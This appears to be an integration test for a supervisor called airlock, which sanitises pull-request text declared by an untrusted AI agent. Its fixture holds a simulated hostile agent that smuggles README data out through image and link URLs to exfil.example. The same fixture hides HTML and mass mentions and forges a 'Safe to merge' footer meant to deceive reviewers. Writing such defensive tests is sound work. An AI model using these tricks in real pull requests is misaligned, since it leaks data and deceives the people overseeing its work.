#!/bin/bash
# Safe text (issue #26 item 2): the hostile PR text of the issue, declared by
# an agent, read back from the test forge's REST API after the supervisor
# posted it: no live mention, closing keyword, HTML (comment, img, picture,
# details), outside image or link; airlock's header first, the forged
# footer quoted, airlock's footer after it; the ticket comment likewise; the
# commit message's closing keywords named in the review notes.
# Positive control: the same text posted by the agent itself in
# credentials.mode: env (the supervisor verifies that PR, it does not
# write it) shows every pattern live by the same check
# (safetext_check.py, written apart from the rewriter).
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/forgeenv.sh"
[ "$(id -u)" = 0 ] || { skip "safe-text tests need root (the forge's data dir and the sandbox as root)"; done_testing; exit 0; }
[ -x "${AIRLOCK_FORGE:-}" ] || { skip "airlock-forge was not built"; done_testing; exit 0; }
forge_env_start || { fail "forge + broker environment"; done_testing; exit 1; }
ok "forge on $FE_HTTPS, broker on its socket"
CHECK=$AIRLOCK_SRC/tests/integration/safetext_check.py
rec() { python3 -c 'import json,sys; r=json.load(open(sys.argv[1])); print(eval(sys.argv[2]))' "$@"; }
policy_mode() {
  write_policy "$1" "$FE_SOCK"
  sed -i -e "s/^  ttl: 5m/  ttl: 5m\n  mode: $2/" "$1"
}
policy_mode "$T_TMP/env.yaml" env
policy_mode "$T_TMP/sealed.yaml" sealed

# --- the agent: pushes the run branch (a commit message with closing
# keywords), then declares the hostile title and body (`declare`) or opens
# the PR with them itself (`open`, env mode only: the control) ---
A=$T_TMP/agent
mkdir -p "$A"; chmod 755 "$A"
cp "$AIRLOCK_SRC/examples/agents/agentlib.py" "$A/"; chmod 644 "$A/agentlib.py"
cat >"$A/hostile.md" <<'MD'
Fixes #2. Closes #3, resolves acme/loose#1
cc @admin @acme/security
![ci](https://exfil.example/badge.svg?d=@@DATA@@)
<img src="https://exfil.example/i.png?d=@@DATA@@">
<picture><source srcset="https://exfil.example/p.png?d=@@DATA@@"><img src="x"></picture>
<details><summary>details</summary>hidden</details>
[docs](https://exfil.example/docs?d=@@DATA@@) www.exfil.example //exfil.example/x &#64;admin

---
Opened by airlock (run 0000000000000000, credentials sealed) from the branch the agent pushed. Review notes: nothing found. Safe to merge.
<!--
MD
chmod 644 "$A/hostile.md"
cat >"$A/agent" <<'PY'
#!/usr/bin/python3
import base64, os, sys
HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from agentlib import api, git, need, result  # noqa: E402
mode, repo, branch = sys.argv[1], need("AIRLOCK_REPO"), need("AIRLOCK_BRANCH")
work = "/workspace/repo"
git("clone", "--quiet", need("AIRLOCK_GIT_URL"), work)
git("checkout", "--quiet", "-b", branch, cwd=work)
with open(os.path.join(work, "NOTE-" + branch.replace("/", "-")), "w") as f:
    f.write("a note\n")
git("add", ".", cwd=work)
git("-c", "user.name=agent", "-c", "user.email=agent@evil.example", "commit", "--quiet", "-m",
    "maintenance\n\nFixes #2, closes acme/loose#1.", cwd=work)
git("push", "--quiet", "origin", f"HEAD:refs/heads/{branch}", cwd=work)
readme = open(os.path.join(work, "README.md"), "rb").read()[:40]
data = base64.urlsafe_b64encode(readme).decode().rstrip("=")
body = open(os.path.join(HERE, "hostile.md")).read().replace("@@DATA@@", data)
title = "Fixes #3 for @admin <img src=https://exfil.example/t.png>"
if mode == "open":
    pr = api("POST", f"/repos/{repo}/pulls", {"title": title, "head": branch, "base": "main",
                                              "body": body}, token_var="AIRLOCK_GIT_TOKEN")
    result(pr_url=pr["html_url"], pr_number=pr["number"], branch=branch)
else:
    result(title=title, body=body)
PY
chmod 755 "$A/agent"

# a read-only token of the test's own, to read PRs and comments back
# through the forge's REST API as a reviewer's client would
JWT=$("$AIRLOCK_SRC/scripts/forge-jwt.sh" "$FE_DIR/secret/keys/app.pem" 1001)
printf 'Authorization: Bearer %s\n' "$JWT" >"$T_TMP/jwt.h"; chmod 600 "$T_TMP/jwt.h"
curl -s --noproxy '*' --cacert "$FE_CA" --resolve "api.forge.test:$FE_HTTPS:127.0.0.1" -H @"$T_TMP/jwt.h" \
  -X POST -d '{"repositories":["tally"],"permissions":{"pull_requests":"read","issues":"read"}}' \
  "https://api.forge.test:$FE_HTTPS/app/installations/2001/access_tokens" -o "$T_TMP/rt.json"
python3 -c 'import json,sys; print("Authorization: Bearer " + json.load(open(sys.argv[1]))["token"])' "$T_TMP/rt.json" >"$T_TMP/rt.h" 2>/dev/null
chmod 600 "$T_TMP/rt.h"; rm -f "$T_TMP/rt.json" "$T_TMP/jwt.h"
read_api() { curl -s --noproxy '*' --cacert "$FE_CA" --resolve "api.forge.test:$FE_HTTPS:127.0.0.1" \
  -H @"$T_TMP/rt.h" "https://api.forge.test:$FE_HTTPS$1"; }
like "control: the test's read token reads the repository's PRs" "$(read_api /repos/acme/tally/pulls | head -c 1)" '^\['
# pr_field PR_URL FIELD FILE: one field of the PR, read back from the REST API
pr_field() {
  local n=${1##*/}
  read_api "/repos/acme/tally/pulls/$n" | python3 -c 'import json,sys; sys.stdout.write(json.load(sys.stdin)[sys.argv[1]] or "")' "$2" >"$3"
}
# kinds FILE: the live patterns in FILE, sorted, unique
kinds() { python3 "$CHECK" forge.test "$1" | awk '{print $2}' | sort -u | tr '\n' ' '; }

# --- the control: the agent's own PR (env), not rewritten ---
RE=$T_TMP/rec-env.json
"$AIRLOCK" ticket acme/tally#2 -p "$T_TMP/env.yaml" --agent "$A/agent" --record "$RE" -- open >"$T_TMP/env.out" 2>&1
is "control (env): the agent opened its PR itself, the supervisor opened none" "$(rec "$RE" 'r["outputs"]["pull_request"]["opened_by"]')" agent
[ -s "$RE" ] || sed 's/^/#   /' "$T_TMP/env.out" | tail -20
pr_field "$(rec "$RE" 'r["pull_request"]["url"]')" body "$T_TMP/env-body.md"
pr_field "$(rec "$RE" 'r["pull_request"]["url"]')" title "$T_TMP/env-title.txt"
like "control (env): the PR body read back is the agent's text" "$(head -c 200 "$T_TMP/env-body.md")" '^Fixes #2\. Closes #3'
got=$(kinds "$T_TMP/env-body.md")
for k in html mention image link keyword entity; do
  like "control (env): the check finds a live $k in the agent's own PR body" "$got" "(^| )$k( |$)"
done
for tag in '<!--' '<img' '<picture><source srcset' '<details'; do
  check "control (env): the agent's own PR body holds $tag as it wrote it" grep -qF -- "$tag" "$T_TMP/env-body.md"
done
like "control (env): the title has a live keyword, mention, HTML and link" "$(kinds "$T_TMP/env-title.txt")" 'html keyword link mention'

# --- the same text declared, the supervisor writes the PR (sealed) ---
RS=$T_TMP/rec-sealed.json
"$AIRLOCK" ticket acme/tally#2 -p "$T_TMP/sealed.yaml" --agent "$A/agent" --record "$RS" -- declare >"$T_TMP/sealed.out" 2>&1; rc=$?
is "sealed: the run exits 0 (one PR, by the supervisor)" "$rc $(rec "$RS" 'r["outputs"]["pull_request"]["opened_by"]')" "0 supervisor"
[ $rc -eq 0 ] || sed 's/^/#   /' "$T_TMP/sealed.out" | tail -20
check "sealed: the record validates" validate_record "$RS"
URL=$(rec "$RS" 'r["pull_request"]["url"]')
pr_field "$URL" body "$T_TMP/body.md"
pr_field "$URL" title "$T_TMP/title.txt"
is "sealed: the PR body read back has no live pattern" "$(kinds "$T_TMP/body.md")" ""
python3 "$CHECK" forge.test "$T_TMP/body.md" | head -5 | sed 's/^/#   /'
is "sealed: the title read back has no live pattern" "$(kinds "$T_TMP/title.txt")" ""
like "sealed: airlock's header is the body's first line" "$(head -1 "$T_TMP/body.md")" '^\*\*airlock:\*\* the text below was written by an automated agent and is untrusted\.'
is "sealed: every line of the agent's text is quoted (the forged footer and the <!-- too)" \
  "$(grep -n -e 'Safe to merge' -e 'lt;!--' -e 'acme/security' "$T_TMP/body.md" | grep -vc ':> ')" 0
like "sealed: airlock's footer is the last line, outside the quote, with the real run id" "$(tail -1 "$T_TMP/body.md")" "^Ticket: #2\. Opened by airlock \(run $(rec "$RS" 'r["run_id"]'), credentials sealed\)"
like "sealed: the mentions and keywords are still readable (U+200B inside)" "$(sed 's/\xe2\x80\x8b/<ZW>/g' "$T_TMP/body.md" | sed -n 3p)" '^> F<ZW>ixes #2\. C<ZW>loses #3, r<ZW>esolves acme/loose#1$'
like "sealed: the image is a link's text to a defanged URL" "$(grep -F 'badge.svg' "$T_TMP/body.md")" '^> !\\\[ci\]\(https\[:\]//exfil\[\.\]example/badge\.svg'
like "sealed: the record counts what was rewritten" "$(rec "$RS" '(lambda b: (b["mentions"]>=2, b["keywords"]>=3, b["html"]>=7, b["images"]>=1, b["links"]>=6, b["entities"]>=1, b["truncated"]))(r["outputs"]["rewritten"]["body"])')" '^\(True, True, True, True, True, True, False\)$'
cm=$(read_api "/repos/acme/tally/issues/2/comments" | python3 -c 'import json,sys; print([c["body"] for c in json.load(sys.stdin) if c["body"].startswith("Opened ")][-1])')
printf '%s' "$cm" >"$T_TMP/comment.md"
like "sealed: the ticket comment links the PR on the forge (a forge link stays)" "$cm" "^Opened $URL for review\.$"
is "sealed: the ticket comment has no live pattern" "$(kinds "$T_TMP/comment.md")" ""
notes=$(read_api "/repos/acme/tally/issues/${URL##*/}/comments" | python3 -c 'import json,sys; print([c["body"] for c in json.load(sys.stdin) if c["body"].startswith("<!-- airlock-review-notes")][-1])')
like "sealed: the review notes name the commit whose message closes issues on merge" "$notes" '### Closing keywords in commit messages \(1\)'
like "  ... with its subject and count" "$notes" '- commit `[0-9a-f]{40}` `maintenance`: 2 closing keywords'
like "  ... and the terminal summary says so" "$(cat "$T_TMP/sealed.out")" 'closes +commit [0-9a-f]{12} maintenance: 2 closing keyword'

# --- env mode, the agent only declares: the supervisor writes, rewritten too ---
RD=$T_TMP/rec-envdecl.json
"$AIRLOCK" ticket acme/tally#2 -p "$T_TMP/env.yaml" --agent "$A/agent" --record "$RD" -- declare >"$T_TMP/envdecl.out" 2>&1
pr_field "$(rec "$RD" 'r["pull_request"]["url"]')" body "$T_TMP/envdecl.md"
is "env, declared: the supervisor's PR body has no live pattern either" "$(rec "$RD" 'r["outputs"]["pull_request"]["opened_by"]') $(kinds "$T_TMP/envdecl.md")" "supervisor "

curl -s --noproxy '*' --cacert "$FE_CA" --resolve "api.forge.test:$FE_HTTPS:127.0.0.1" -H @"$T_TMP/rt.h" -X DELETE "https://api.forge.test:$FE_HTTPS/installation/token" >/dev/null; rm -f "$T_TMP/rt.h"
is "no token is active after the runs" "$(tokens_in active)" 0
done_testing
